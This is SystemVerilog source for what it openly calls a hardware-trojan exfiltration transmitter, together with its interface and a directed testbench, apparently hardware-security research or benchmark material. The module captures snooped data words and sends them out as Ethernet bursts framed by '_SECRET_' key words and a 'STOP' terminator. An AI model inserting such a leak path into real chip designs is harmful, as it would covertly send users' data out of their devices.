// File: rtl/troj_exfil_tx_if.sv
// Bundles the snoop-capture inputs and the Ethernet TX word-stream outputs
// of troj_exfil_tx. The slave modport is the block itself; the master modport
// is whoever drives the snoop source and consumes the TX stream.
interface troj_exfil_tx_if #(
  parameter int DEPTH = 8
) ();
  localparam int LW = $clog2(DEPTH) + 1;

  logic [31:0]   i_snoop_data;
  logic          i_snoop_valid;
  logic          i_trigger;
  logic          i_tx_ready;
  logic [31:0]   o_tx_data;
  logic          o_tx_valid;
  logic          o_tx_last;
  logic          o_busy;
  logic [LW-1:0] o_level;
  logic          o_overflow;

  modport master (
    output i_snoop_data, i_snoop_valid, i_trigger, i_tx_ready,
    input  o_tx_data, o_tx_valid, o_tx_last, o_busy, o_level, o_overflow
  );

  modport slave (
    input  i_snoop_data, i_snoop_valid, i_trigger, i_tx_ready,
    output o_tx_data, o_tx_valid, o_tx_last, o_busy, o_level, o_overflow
  );
endinterface

// File: rtl/troj_exfil_tx.sv
// Exfiltration transmitter: buffers snooped words in a small circular FIFO and
// sends them as one framed burst KEY_0, KEY_1, payload..., END_0 on the TX word
// stream. Payload words that collide with END_0 are replaced by SUBST so the
// receiver never sees a premature terminator. All outputs come from flops.
module troj_exfil_tx #(
  parameter int          DEPTH = 8,
  parameter logic [31:0] KEY_0 = 32'h5f534543,
  parameter logic [31:0] KEY_1 = 32'h5245545f,
  parameter logic [31:0] END_0 = 32'h53544F50,
  parameter logic [31:0] SUBST = 32'h53544F51
) (
  input  logic             i_clk,
  input  logic             i_rst,
  troj_exfil_tx_if.slave   bus
);
  localparam int AW = $clog2(DEPTH);
  localparam int LW = AW + 1;

  typedef enum logic [2:0] {
    S_IDLE,
    S_KEY0,
    S_KEY1,
    S_PAYLOAD,
    S_END
  } state_e;

  state_e        state_q, state_d;
  logic [AW-1:0] wr_ptr_q, wr_ptr_d;
  logic [AW-1:0] rd_ptr_q, rd_ptr_d;
  logic [AW-1:0] rd_next;
  logic [LW-1:0] level_q, level_d;
  logic [LW-1:0] n_q, n_d;
  logic          overflow_q, overflow_d;
  logic          busy_q, busy_d;
  logic [31:0]   tx_data_q, tx_data_d;
  logic          tx_valid_q, tx_valid_d;
  logic          tx_last_q, tx_last_d;
  logic [31:0]   mem_q [DEPTH];
  logic          full;
  logic          push;
  logic          pop;
  logic          hs;

  // A payload word equal to the terminator would end the frame early at the
  // receiver, so it is swapped for a look-alike.
  function automatic logic [31:0] subst_word(input logic [31:0] w);
    return (w == END_0) ? SUBST : w;
  endfunction

  // FIFO bookkeeping: pointers wrap naturally because DEPTH is a power of two.
  always_comb begin
    full       = (level_q == LW'(DEPTH));
    push       = bus.i_snoop_valid && !full;
    rd_next    = rd_ptr_q + AW'(1);
    wr_ptr_d   = push ? (wr_ptr_q + AW'(1)) : wr_ptr_q;
    rd_ptr_d   = pop ? rd_next : rd_ptr_q;
    level_d    = level_q + LW'(push) - LW'(pop);
    overflow_d = overflow_q | (bus.i_snoop_valid & full);
  end

  // Framing FSM: next state plus the registered TX word for that state. The
  // next payload word is looked up from the post-pop read pointer so the data
  // register always holds the current FIFO head.
  always_comb begin
    state_d    = state_q;
    n_d        = n_q;
    pop        = 1'b0;
    tx_data_d  = tx_data_q;
    tx_valid_d = tx_valid_q;
    tx_last_d  = tx_last_q;
    hs         = tx_valid_q && bus.i_tx_ready;

    unique case (state_q)
      S_IDLE: begin
        tx_data_d  = '0;
        tx_valid_d = 1'b0;
        tx_last_d  = 1'b0;
        if ((bus.i_trigger || full) && (level_q != '0)) begin
          state_d    = S_KEY0;
          n_d        = level_q;
          tx_data_d  = KEY_0;
          tx_valid_d = 1'b1;
        end
      end
      S_KEY0: begin
        if (hs) begin
          state_d   = S_KEY1;
          tx_data_d = KEY_1;
        end
      end
      S_KEY1: begin
        if (hs) begin
          state_d   = S_PAYLOAD;
          tx_data_d = subst_word(mem_q[rd_ptr_q]);
        end
      end
      S_PAYLOAD: begin
        if (hs) begin
          pop = 1'b1;
          n_d = n_q - LW'(1);
          if (n_q == LW'(1)) begin
            state_d   = S_END;
            tx_data_d = END_0;
            tx_last_d = 1'b1;
          end else begin
            tx_data_d = subst_word(mem_q[rd_next]);
          end
        end
      end
      S_END: begin
        if (hs) begin
          state_d    = S_IDLE;
          tx_data_d  = '0;
          tx_valid_d = 1'b0;
          tx_last_d  = 1'b0;
        end
      end
      default: begin
        state_d    = S_IDLE;
        tx_data_d  = '0;
        tx_valid_d = 1'b0;
        tx_last_d  = 1'b0;
      end
    endcase

    busy_d = (state_d != S_IDLE);
  end

  // Control and output registers; reset abandons any packet and empties the FIFO.
  always_ff @(posedge i_clk) begin
    if (i_rst) begin
      state_q    <= S_IDLE;
      wr_ptr_q   <= '0;
      rd_ptr_q   <= '0;
      level_q    <= '0;
      n_q        <= '0;
      overflow_q <= 1'b0;
      busy_q     <= 1'b0;
      tx_data_q  <= '0;
      tx_valid_q <= 1'b0;
      tx_last_q  <= 1'b0;
    end else begin
      state_q    <= state_d;
      wr_ptr_q   <= wr_ptr_d;
      rd_ptr_q   <= rd_ptr_d;
      level_q    <= level_d;
      n_q        <= n_d;
      overflow_q <= overflow_d;
      busy_q     <= busy_d;
      tx_data_q  <= tx_data_d;
      tx_valid_q <= tx_valid_d;
      tx_last_q  <= tx_last_d;
    end
  end

  // FIFO storage; contents are don't-care until written, so no reset.
  always_ff @(posedge i_clk) begin
    if (push && !i_rst) begin
      mem_q[wr_ptr_q] <= bus.i_snoop_data;
    end
  end

  assign bus.o_tx_data  = tx_data_q;
  assign bus.o_tx_valid = tx_valid_q;
  assign bus.o_tx_last  = tx_last_q;
  assign bus.o_busy     = busy_q;
  assign bus.o_level    = level_q;
  assign bus.o_overflow = overflow_q;
endmodule

// File: tb/tb_troj_exfil_tx.sv
// Directed bench for troj_exfil_tx: per-cycle vector table for the basic,
// substitution and ignored-trigger cases, plus hand sequences for
// backpressure, FIFO-full auto-start/overflow and reset mid-packet.
module tb_troj_exfil_tx;
  localparam logic [31:0] KEY0  = 32'h5f534543;
  localparam logic [31:0] KEY1  = 32'h5245545f;
  localparam logic [31:0] END0  = 32'h53544F50;
  localparam logic [31:0] SUBW  = 32'h53544F51;

  logic clk = 1'b0;
  logic rst = 1'b1;
  int   total = 0;
  int   bad = 0;

  always #5 clk = ~clk;

  troj_exfil_tx_if #(.DEPTH(8)) bus ();

  troj_exfil_tx #(.DEPTH(8)) dut (
    .i_clk (clk),
    .i_rst (rst),
    .bus   (bus)
  );

  typedef struct {
    logic        sv;
    logic [31:0] sd;
    logic        tr;
    logic        rdy;
    logic        ev;
    logic [31:0] ed;
    logic        el;
    logic [3:0]  elev;
    logic        eb;
  } vec_t;

  vec_t        vq[$];
  logic [31:0] got_d[$];
  logic        got_l[$];
  int          hold_bad;
  logic        timed_out;

  task automatic chk(input string nm, input logic [31:0] act, input logic [31:0] exp);
    total++;
    if (act !== exp) begin
      bad++;
      $display("FAIL %s: got %h expected %h", nm, act, exp);
    end
  endtask

  task automatic addv(input logic sv, input logic [31:0] sd, input logic tr, input logic rdy,
                      input logic ev, input logic [31:0] ed, input logic el,
                      input logic [3:0] elev, input logic eb);
    vec_t v;
    v.sv = sv; v.sd = sd; v.tr = tr; v.rdy = rdy;
    v.ev = ev; v.ed = ed; v.el = el; v.elev = elev; v.eb = eb;
    vq.push_back(v);
  endtask

  task automatic drive(input logic sv, input logic [31:0] sd, input logic tr, input logic rdy);
    bus.i_snoop_valid = sv;
    bus.i_snoop_data  = sd;
    bus.i_trigger     = tr;
    bus.i_tx_ready    = rdy;
  endtask

  task automatic step();
    @(posedge clk);
    #1;
  endtask

  // Consume nwords handshakes, optionally with ready toggling 1,0,0,1,...
  task automatic collect(input int nwords, input bit toggle);
    logic [33:0] prev;
    logic        prev_stall;
    logic        pat [4];
    int          cyc;
    pat[0] = 1'b1; pat[1] = 1'b0; pat[2] = 1'b0; pat[3] = 1'b1;
    got_d.delete();
    got_l.delete();
    hold_bad  = 0;
    timed_out = 1'b0;
    cyc       = 0;
    while (got_d.size() < nwords) begin
      if (cyc >= 200) begin
        timed_out = 1'b1;
        break;
      end
      drive(1'b0, 32'h0, 1'b0, toggle ? pat[cyc % 4] : 1'b1);
      if (bus.o_tx_valid && bus.i_tx_ready) begin
        got_d.push_back(bus.o_tx_data);
        got_l.push_back(bus.o_tx_last);
      end
      prev       = {bus.o_tx_valid, bus.o_tx_last, bus.o_tx_data};
      prev_stall = bus.o_tx_valid && !bus.i_tx_ready;
      step();
      if (prev_stall && ({bus.o_tx_valid, bus.o_tx_last, bus.o_tx_data} !== prev))
        hold_bad++;
      cyc++;
    end
    drive(1'b0, 32'h0, 1'b0, 1'b0);
  endtask

  initial begin
    #200000;
    $display("FAIL watchdog: simulation time limit reached");
    $fatal(1, "watchdog");
  end

  initial begin
    logic [31:0] exp_pkt[$];
    int          vcount;

    // basic packet
    addv(1, 32'h11111111, 0, 1, 0, 32'h0,        0, 4'd1, 0);
    addv(1, 32'h22222222, 0, 1, 0, 32'h0,        0, 4'd2, 0);
    addv(1, 32'h33333333, 0, 1, 0, 32'h0,        0, 4'd3, 0);
    addv(0, 32'h0,        1, 1, 1, KEY0,         0, 4'd3, 1);
    addv(0, 32'h0,        0, 1, 1, KEY1,         0, 4'd3, 1);
    addv(0, 32'h0,        0, 1, 1, 32'h11111111, 0, 4'd3, 1);
    addv(0, 32'h0,        0, 1, 1, 32'h22222222, 0, 4'd2, 1);
    addv(0, 32'h0,        0, 1, 1, 32'h33333333, 0, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 1, END0,         1, 4'd0, 1);
    addv(0, 32'h0,        0, 1, 0, 32'h0,        0, 4'd0, 0);
    // trigger with empty FIFO
    addv(0, 32'h0,        1, 1, 0, 32'h0,        0, 4'd0, 0);
    // substitution, late capture, trigger during KEY1
    addv(1, END0,         0, 1, 0, 32'h0,        0, 4'd1, 0);
    addv(0, 32'h0,        1, 0, 1, KEY0,         0, 4'd1, 1);
    addv(0, 32'h0,        0, 0, 1, KEY0,         0, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 1, KEY1,         0, 4'd1, 1);
    addv(0, 32'h0,        1, 1, 1, SUBW,         0, 4'd1, 1);
    addv(1, 32'hAAAAAAAA, 0, 1, 1, END0,         1, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 0, 32'h0,        0, 4'd1, 0);
    addv(0, 32'h0,        0, 1, 0, 32'h0,        0, 4'd1, 0);
    addv(0, 32'h0,        0, 1, 0, 32'h0,        0, 4'd1, 0);
    addv(0, 32'h0,        1, 1, 1, KEY0,         0, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 1, KEY1,         0, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 1, 32'hAAAAAAAA, 0, 4'd1, 1);
    addv(0, 32'h0,        0, 1, 1, END0,         1, 4'd0, 1);
    addv(0, 32'h0,        0, 1, 0, 32'h0,        0, 4'd0, 0);

    // reset
    drive(1'b0, 32'h0, 1'b0, 1'b0);
    rst = 1'b1;
    step();
    step();
    rst = 1'b0;
    chk("reset tx_data",  bus.o_tx_data, 32'h0);
    chk("reset tx_valid", 32'(bus.o_tx_valid), 32'h0);
    chk("reset tx_last",  32'(bus.o_tx_last), 32'h0);
    chk("reset busy",     32'(bus.o_busy), 32'h0);
    chk("reset level",    32'(bus.o_level), 32'h0);
    chk("reset overflow", 32'(bus.o_overflow), 32'h0);

    // table-driven vectors
    for (int i = 0; i < vq.size(); i++) begin
      drive(vq[i].sv, vq[i].sd, vq[i].tr, vq[i].rdy);
      step();
      chk($sformatf("row%0d valid", i), 32'(bus.o_tx_valid), 32'(vq[i].ev));
      if (vq[i].ev)
        chk($sformatf("row%0d data", i), bus.o_tx_data, vq[i].ed);
      chk($sformatf("row%0d last", i),  32'(bus.o_tx_last), 32'(vq[i].el));
      chk($sformatf("row%0d level", i), 32'(bus.o_level), 32'(vq[i].elev));
      chk($sformatf("row%0d busy", i),  32'(bus.o_busy), 32'(vq[i].eb));
      chk($sformatf("row%0d ovf", i),   32'(bus.o_overflow), 32'h0);
    end

    // backpressure: same packet with ready toggling
    drive(1'b1, 32'h11111111, 1'b0, 1'b0); step();
    drive(1'b1, 32'h22222222, 1'b0, 1'b0); step();
    drive(1'b1, 32'h33333333, 1'b0, 1'b0); step();
    drive(1'b0, 32'h0, 1'b1, 1'b0); step();
    chk("bp start valid", 32'(bus.o_tx_valid), 32'h1);
    collect(6, 1'b1);
    chk("bp timeout", 32'(timed_out), 32'h0);
    chk("bp hold stable", 32'(hold_bad), 32'h0);
    exp_pkt = '{KEY0, KEY1, 32'h11111111, 32'h22222222, 32'h33333333, END0};
    for (int i = 0; i < 6; i++) begin
      chk($sformatf("bp word%0d", i), (i < got_d.size()) ? got_d[i] : 32'hXXXXXXXX, exp_pkt[i]);
      chk($sformatf("bp last%0d", i), (i < got_l.size()) ? 32'(got_l[i]) : 32'hX, (i == 5) ? 32'h1 : 32'h0);
    end
    chk("bp idle after", 32'(bus.o_tx_valid), 32'h0);
    chk("bp level after", 32'(bus.o_level), 32'h0);

    // full FIFO: auto-start, ninth capture dropped
    for (int i = 1; i <= 9; i++) begin
      drive(1'b1, 32'h100 + 32'(i), 1'b0, 1'b0);
      step();
      if (i == 8) begin
        chk("full level8", 32'(bus.o_level), 32'd8);
        chk("full not started", 32'(bus.o_tx_valid), 32'h0);
        chk("full ovf before", 32'(bus.o_overflow), 32'h0);
      end
    end
    chk("auto start valid", 32'(bus.o_tx_valid), 32'h1);
    chk("auto start data", bus.o_tx_data, KEY0);
    chk("overflow set", 32'(bus.o_overflow), 32'h1);
    chk("level after drop", 32'(bus.o_level), 32'd8);
    collect(11, 1'b0);
    chk("full timeout", 32'(timed_out), 32'h0);
    exp_pkt = '{KEY0, KEY1};
    for (int i = 1; i <= 8; i++) exp_pkt.push_back(32'h100 + 32'(i));
    exp_pkt.push_back(END0);
    for (int i = 0; i < 11; i++)
      chk($sformatf("full word%0d", i), (i < got_d.size()) ? got_d[i] : 32'hXXXXXXXX, exp_pkt[i]);
    chk("full last flag", (got_l.size() == 11) ? 32'(got_l[10]) : 32'hX, 32'h1);
    chk("full level after", 32'(bus.o_level), 32'h0);
    chk("overflow sticky", 32'(bus.o_overflow), 32'h1);

    // reset in the middle of a payload
    drive(1'b1, 32'hC0DE0001, 1'b0, 1'b1); step();
    drive(1'b1, 32'hC0DE0002, 1'b0, 1'b1); step();
    drive(1'b0, 32'h0, 1'b1, 1'b1); step();
    drive(1'b0, 32'h0, 1'b0, 1'b1); step();
    step();
    chk("mid payload data", bus.o_tx_data, 32'hC0DE0001);
    rst = 1'b1;
    step();
    rst = 1'b0;
    chk("midrst tx_data",  bus.o_tx_data, 32'h0);
    chk("midrst tx_valid", 32'(bus.o_tx_valid), 32'h0);
    chk("midrst tx_last",  32'(bus.o_tx_last), 32'h0);
    chk("midrst busy",     32'(bus.o_busy), 32'h0);
    chk("midrst level",    32'(bus.o_level), 32'h0);
    chk("midrst overflow", 32'(bus.o_overflow), 32'h0);
    vcount = 0;
    for (int i = 0; i < 5; i++) begin
      step();
      if (bus.o_tx_valid) vcount++;
    end
    chk("no end after reset", 32'(vcount), 32'h0);

    $display("test done: total=%0d bad=%0d", total, bad);
    $finish;
  end
endmodule
